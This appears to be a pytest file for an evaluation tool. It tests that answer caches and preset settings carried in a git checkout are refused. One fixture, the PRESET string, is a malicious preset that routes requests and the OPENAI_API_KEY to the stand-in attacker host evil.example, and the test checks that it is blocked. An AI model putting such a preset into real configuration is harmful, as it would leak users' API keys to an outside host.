"""Nobody brings answers or settings along: neither as files of a checkout, nor as a link of one, nor as its HOME."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from evalkit.checkouts import named_by_git
from evalkit.testing.fake_provider import Behaviour, FakeProvider
from tests.world import evalkit

Capture = pytest.CaptureFixture[str]


def _git(folder: Path, *words: str) -> None:
    names = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
    command = ["git", "-c", "init.defaultBranch=main", *words]
    subprocess.run(command, check=True, capture_output=True, cwd=folder, env={**os.environ, **names})


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> Path:
    """A suite whose right answers stand in a cache that was made at home."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "d.jsonl").write_text('{"id": "1", "q": "Who?"}\n')
    with FakeProvider.in_thread(Behaviour(reply="B")) as provider:
        (folder / "s.yaml").write_text(
            f"name: s\nmodels:\n  m: {{adapter: openai_chat, model: m, base_url: '{provider.base_url}', weights: w}}\n"
            "tasks:\n  - {name: t, data: {path: d.jsonl, id: id}, prompt: '{{ q }}', target: B, score: exact}\n"
        )
        monkeypatch.setenv("EVALKIT_CACHE", str(folder / ".evalkit-cache"))
        assert evalkit(capsys, "run", folder / "s.yaml", "--results", tmp_path / "r").code == 0
    return folder


@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
@pytest.mark.parametrize("linked", [False, True], ids=["as it is", "behind a link"])
def test_a_cache_that_git_tracks_is_refused(checkout: Path, tmp_path: Path, capsys: Capture, linked: bool) -> None:
    if linked:
        (checkout / ".evalkit-cache").rename(checkout / "other")
        (checkout / ".evalkit-cache").symlink_to("other")
    _git(checkout, "init")
    assert evalkit(capsys, "plan", checkout / "s.yaml").code == 0, "nothing is tracked yet"
    _git(checkout, "add", "-A")
    for command in ("run", "plan"):
        ran = evalkit(
            capsys, command, checkout / "s.yaml", *(("--results", tmp_path / "r2") if command == "run" else ())
        )
        assert ran.code == 2, ran.out
        assert "a pull request could bring answers along" in " ".join(ran.err.split())


def test_a_cache_with_the_mode_of_a_checkout_s_files_is_not_used(
    checkout: Path, tmp_path: Path, capsys: Capture
) -> None:
    (checkout / ".evalkit-cache" / "responses.sqlite").chmod(0o644)
    ran = evalkit(capsys, "run", checkout / "s.yaml", "--results", tmp_path / "r2")
    assert "chmod 600" in ran.err
    assert ran.code == 4, "no answer came from it, and the server is gone"


@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
@pytest.mark.parametrize("how", ["2", "4", "sha256"])
def test_what_git_keeps_is_known_whole_names_and_all_kinds_of_index(tmp_path: Path, how: str) -> None:
    _git(tmp_path, "init", *(["--object-format=sha256"] if how == "sha256" else []))
    for name in ("src/cache/redis.py", "my.cache/x", "cache2/x", *(f"deep/name-{n}" for n in range(40))):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    _git(tmp_path, "add", "-A")
    if how == "4":
        _git(tmp_path, "update-index", "--index-version", "4")
    kept = {name for name in ("cache", "src", "src/cache", "my.cache", "cache2", "cach", "deep/name-7", "deep/name-70")}
    assert {name for name in kept if named_by_git(tmp_path / name)} == kept - {"cache", "cach", "deep/name-70"}
    (tmp_path / ".git" / "index").write_bytes(b"DIRC" + b"\0" * 40)
    assert named_by_git(tmp_path / "cache") is None
    (tmp_path / ".git" / "index").write_bytes(b"none")
    assert named_by_git(tmp_path / "cache") == tmp_path


PRESET = "dialect: chat\nbase_url: https://evil.example/v1\nkey_env: [OPENAI_API_KEY]\nkey_hosts: [evil.example]\n"


@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
@pytest.mark.parametrize("variable", ["HOME", "XDG_CONFIG_HOME", "EVALKIT_PRESETS"])
@pytest.mark.parametrize("kept", [True, False], ids=["kept by git", "the person's own"])
def test_settings_that_a_checkout_brings_along_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, variable: str, kept: bool
) -> None:
    """Jenkins and others let HOME be the checkout."""
    home = tmp_path / "work"
    presets = home / ".config" / "evalkit" / "presets"
    presets.mkdir(parents=True)
    (presets / "acme.yaml").write_text(PRESET)
    (home / "s.yaml").write_text(
        "name: s\nmodels: {m: {adapter: acme, model: m}}\n"
        "tasks: [{name: t, cases: [{q: a, expected: b}], prompt: '{{ q }}', score: exact}]\n"
    )
    for name in ("XDG_CONFIG_HOME", "EVALKIT_PRESETS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(home))
    if variable != "HOME":
        monkeypatch.setenv(variable, str(presets if variable == "EVALKIT_PRESETS" else presets.parent.parent))
    monkeypatch.setenv("OPENAI_API_KEY", "PLACEHOLDER-canary-0123456789ab")
    monkeypatch.chdir(home)
    _git(home, "init")
    _git(home, "add", "-A" if kept else "s.yaml")
    ran = evalkit(capsys, "check", "s.yaml")
    if kept:
        assert ran.code == 2
        assert "checkout" in ran.err or "the suite's folder" in ran.err
        assert "canary" not in ran.out + ran.err
    else:
        assert "evil.example" in ran.out, ran.err
